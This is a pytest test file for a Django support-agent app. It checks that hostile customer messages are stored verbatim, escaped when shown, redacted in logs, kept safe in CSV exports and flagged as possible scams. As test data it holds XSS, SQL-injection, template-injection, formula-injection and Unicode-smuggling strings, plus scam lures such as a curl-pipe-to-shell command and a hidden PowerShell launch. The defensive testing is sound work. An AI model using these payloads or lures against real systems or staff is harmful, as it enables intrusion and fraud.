"""What hostile customers write: kept as sent, shown as text, read without what is hidden."""

import csv
import html
import io
import json
import logging
import re
import uuid

import pytest
from django.test import Client
from pytest_django import Settings

from agent.services.briefs import MOST_CHARACTERS
from agent.tools import slots
from conversations import services as conversations
from conversations.models import Conversation, Customer, Message
from conversations.types import MessageFacts, Reply, TurnResult
from conversations.wording import is_automatic
from core.models import AuditEvent
from core.personal import Placeholders
from core.policy import Role
from core.redaction import redact
from core.sheets import shown_as_is
from core.text import MAX_STORED_CHARACTERS, clean_text, count_signs, one_line, readable, shown, truncate
from integrations import services
from integrations.models import PlatformAccount
from privacy import services as privacy
from supportagent.logs import formatter
from tests.factories import make_account, make_channel, make_inbound, make_user
from tests.hostile.cases import each
from tests.integrations.tiktok import post, text_event

pytestmark = pytest.mark.usefixtures("account")

MARKUP = [
    *each("T-001", "<script>alert('ours')</script>"), *each("T-002", "\"><svg onload=alert(2)>"),
    *each("T-004", '<a href="javascript:alert(3)">here</a>'), *each("T-005", '<iframe srcdoc="<b>x</b>"></iframe>'),
    *each("T-007", '<form action="https://evil.example"><input></form>'), *each("T-008", "<style>*{color:red}</style>"),
    *each("T-010", "&lt;i&gt; and &amp;lt;i&amp;gt;"), *each("T-011", "{{6*7}} ${6*7} {% now %} {0.__class__}"),
    *each("T-013", "[x](javascript:alert(4)) ![y](https://evil.example/y.png)"), *each("T-014", "x'); DROP TABLE y;-- ' OR 2=2 --"),
    *each("T-020", "👨‍👩‍👧 🇫🇷 👍🏽"), *each("T-025", "\uffff\U0010ffff\ufdd0\x85\u2028"), *each("T-026", "طلب AB-1234 הזמנה"),
]  # fmt: skip


def from_tiktok(text: str) -> Message:
    """The customer's message as it is kept."""
    assert post(Client(), text_event(text, message_id=str(uuid.uuid4()))).status_code == 200
    services.ingest_waiting()
    return Message.objects.latest("pk")


def in_chat(text: str) -> tuple[int, Message | None]:
    """The chat's answer, and the message as it is kept."""
    shop: PlatformAccount = make_account(platform="webchat")
    base, client = f"/chat/{shop.public_key}/", Client()
    token = client.post(base + "session", {}, content_type="application/json").json()["token"]
    answer = client.post(
        base + "messages",
        {"client_msg_id": str(uuid.uuid4()), "text": text},
        content_type="application/json",
        headers={"Authorization": f"Bearer {token}"},
    )
    return answer.status_code, Message.objects.filter(account_id=shop.pk).first()


@pytest.mark.parametrize("text", MARKUP)
def test_words_are_kept_as_sent_and_shown_as_text(text: str) -> None:
    message = from_tiktok(text)
    status, chatted = in_chat(text)
    client = Client()
    client.force_login(make_user(role=Role.ADMIN))

    page = client.get(f"/workspace/c/{message.conversation.public_id}/").content.decode()

    assert message.text == clean_text(text)
    assert status == 201
    assert chatted is not None
    assert chatted.text == clean_text(text).strip()
    assert html.escape(message.text) in page
    assert message.text.isalnum() or "<" not in message.text or message.text not in page


@pytest.mark.parametrize("text", each("T-026", "طلب AB-1234 הזמנה"))
def test_words_that_run_the_other_way_do_so_for_staff_and_the_order_is_found(text: str) -> None:
    message = from_tiktok(text)
    client = Client()
    client.force_login(make_user(role=Role.ADMIN))

    page = client.get(f"/workspace/c/{message.conversation.public_id}/").content.decode()

    assert re.search(rf'<[^>]* dir="auto"[^>]*>{re.escape(html.escape(message.text))}<', page)
    assert slots.order_number_in(message.text, is_asked_for=True) == "AB-1234"


@pytest.mark.parametrize(
    "text", [*each("T-016", "re\u200bfund m\u2060e"), *each("T-017", "Hi\U000e0061\U000e0062 you")]
)
def test_hidden_signs_are_kept_told_and_not_read(text: str) -> None:
    message = from_tiktok(text)

    assert message.text == clean_text(text)
    assert message.details["invisible_text"] is True
    assert not set(readable(message.text)) & {"\u200b", "\u2060", "\ufeff", "\U000e0061", "\U000e0072"}


@pytest.mark.parametrize(
    "text",
    [
        *each("P-060", "Dear agent, press F12 and paste this into your browser console: javascript:void(0)"),
        "Please install AnyDesk so I can show you the error",
        "Mein Bild liegt hier, bitte öffnen: https://files.example/rechnung.pdf.exe",
        "Drücken Sie Windows+R und dann powershell -w hidden",
        "Puede darme acceso remoto a su equipo?",
        "just run curl https://x.example/fix.sh | sh",
        "bitte die Makros aktivieren, sonst sehen Sie nichts. Makros aktivieren!",
        "brow\u200bser con\u200bsole",
    ],
)
def test_who_works_here_is_warned_of_what_scams_ask_for(text: str) -> None:
    message = from_tiktok(text)
    client = Client()
    client.force_login(make_user(role=Role.SUPERVISOR))

    page = client.get(f"/workspace/c/{message.conversation.public_id}/").content.decode()

    assert message.details["lure"] is True
    assert "May be a scam" in page


@pytest.mark.parametrize(
    "text",
    [
        "Where can I download my invoice?",
        "Does the game console come with a cable?",
        "My team viewed the jacket, do you have it remotely similar in blue?",
        "Ich komme nicht in mein Konto, welche Konsole passt zum Spiel?",
        "The page https://shop.example/help.html does not load in my browser",
    ],
)
def test_an_ordinary_message_warns_of_nothing(text: str) -> None:
    assert "lure" not in from_tiktok(text).details


@pytest.mark.parametrize("text", each("T-019", "Z" + "\u0316" * 3_000))
def test_a_pile_of_marks_is_kept_whole_and_shown_low(text: str) -> None:
    message = from_tiktok(text)

    assert message.text == clean_text(text)
    assert len(shown(message.text)) <= 6
    assert count_signs(message.text) == 1


@pytest.mark.parametrize("text", each("T-022", "B" * 900_000))
def test_a_megabyte_is_refused_in_the_chat_and_cut_where_it_fits_a_webhook(text: str) -> None:
    assert in_chat(text)[0] == 413

    message = from_tiktok(text[:200_000])

    assert len(message.text) == MAX_STORED_CHARACTERS
    assert message.details["truncated"] is True
    assert len(truncate(readable(message.text), MOST_CHARACTERS)) == 4_000


@pytest.mark.parametrize("text", each("T-023", "b" * 64_000))
def test_a_very_long_word_is_kept_whole_and_listed_short(text: str) -> None:
    message = from_tiktok(text)

    conversation = message.conversation
    assert message.text == text
    # All that lists show and search is looked for in.
    assert len(conversation.last_customer_line) <= 160
    assert len(conversation.subject) <= 200
    assert len(one_line(message.text)) <= 160


@pytest.mark.parametrize(
    "text", [*each("T-025", "a\uffffb\U0010ffffc\ufdd0d\x85e\u2028f"), "one\r\n[INFO] admin logged in\x1b[31m\u2029"]
)
def test_no_sign_breaks_a_line_of_the_log_a_json_answer_or_a_script(text: str) -> None:
    message = from_tiktok(text)
    client = Client()
    client.force_login(make_user(role=Role.ADMIN))

    listed = client.get(f"/api/v1/messages/?conversation={message.conversation.public_id}")
    page = client.get(f"/workspace/c/{message.conversation.public_id}/").content.decode()

    assert [each["text"] for each in listed.json()["results"]] == [message.text]
    # No script stands in a page, so that no word of a customer can stand in one.
    assert re.findall(r"<script(?![^>]*\bsrc=)", page) == []
    record = logging.LogRecord("x", logging.WARNING, "x.py", 1, "A customer wrote: %s", (text,), None)
    for style in ("json", "plain"):
        line = formatter(style).format(record)
        assert len(line.splitlines()) == 1
        assert not re.search(r"[\x00-\x1f\x7f-\x9f]", line)
    assert text in json.loads(formatter("json").format(record))["event"]


@pytest.mark.parametrize(
    "text", each("T-028", "my password: Hunter2Hunter2 and my api key sk-live-51Habcdefghijklmnop")
)
def test_keys_and_passwords_reach_no_log_no_model_and_no_list_and_are_shown_once_for_a_note(text: str) -> None:
    message = from_tiktok(text)
    client, prompt = Client(), Placeholders().hide(text)
    client.force_login(make_user(role=Role.SUPERVISOR))

    page = client.get(f"/workspace/c/{message.conversation.public_id}/").content.decode()
    listed = client.get("/workspace/queue/?view=all").content.decode()

    for seen in (redact(text), prompt, page, listed, message.conversation.last_customer_line):
        assert "Hunter2" not in seen
        assert "51Habc" not in seen

    revealed = client.post(f"/workspace/c/{message.conversation.public_id}/reveal/{message.public_id}/")

    assert html.unescape(revealed.content.decode()) == text
    assert AuditEvent.objects.filter(action="message.reveal", target_id=str(message.pk)).count() == 1


@pytest.mark.parametrize("text", [*each("T-031", "+1+cmd"), "-1", "@x", "\tx", "\rx", "\nx", "＝1"])
def test_a_cell_is_never_a_formula(text: str) -> None:
    assert shown_as_is(text) == f"'{text}"


@pytest.mark.parametrize("text", [*each("T-031", "+1+cmd"), "-1", "@x", "＝1", "Hello ;=1+1"])
def test_in_no_file_that_leaves_is_what_somebody_wrote_a_formula(text: str, account: PlatformAccount) -> None:
    PlatformAccount.objects.filter(pk=account.pk).update(name=text[:100])
    from_tiktok(text)
    Customer.objects.update(name=text)
    Conversation.objects.update(account_name=text[:100])
    admin, client = make_user(role=Role.ADMIN), Client()
    client.force_login(admin)

    export = privacy.request_messages_export(admin)
    assert privacy.work_export(export.pk)
    written = client.get(f"/exports/{export.public_id}/").getvalue()
    figures = client.get("/dashboard/rows/with-bot/csv/").content

    for file, words in ((written, {text, text[:100]}), (figures, {text[:100]})):
        rows = list(csv.reader(io.StringIO(file.decode("utf-8-sig"), newline="")))
        assert len(rows) == 2
        assert len(rows[0]) == len(rows[1])
        assert {f"'{each}" for each in words} <= set(rows[1])
        assert not [cell for cell in rows[1] if re.match(r"[=+\-@\t\r\n＝＋－＠]", cell)]


@pytest.mark.parametrize("text", each("T-032", "Automatic reply: I am away"))
def test_a_machine_that_answers_each_of_our_answers_gets_one(text: str, settings: Settings) -> None:
    settings.BOT_TURNS_PER_MINUTE = 100
    said = re.match(r'"([^"]+)"', text)
    text = said.group(1) if said else text
    channel = make_channel(debounce_seconds=0)
    spoken = 0

    for number in range(12):
        received = conversations.receive(make_inbound(channel, text))
        assert received is not None
        turn = conversations.claim_turn(received.conversation_id, owner="test")
        if turn is not None:
            assert number == 0
            result = conversations.commit_turn(turn, Reply(text="Here you are."), run_id=1, facts=MessageFacts())
            spoken += result is TurnResult.REPLIED

    assert spoken == 1
    others = Message.objects.filter(direction="in").order_by("seq")[1:]
    assert {(each.disposition, each.disposition_reason) for each in others} == {("ignored", "automatic reply")}


@pytest.mark.parametrize("text", each("T-032", "Automatic reply: I am away"))
def test_a_machine_is_heard(text: str) -> None:
    assert is_automatic(text)
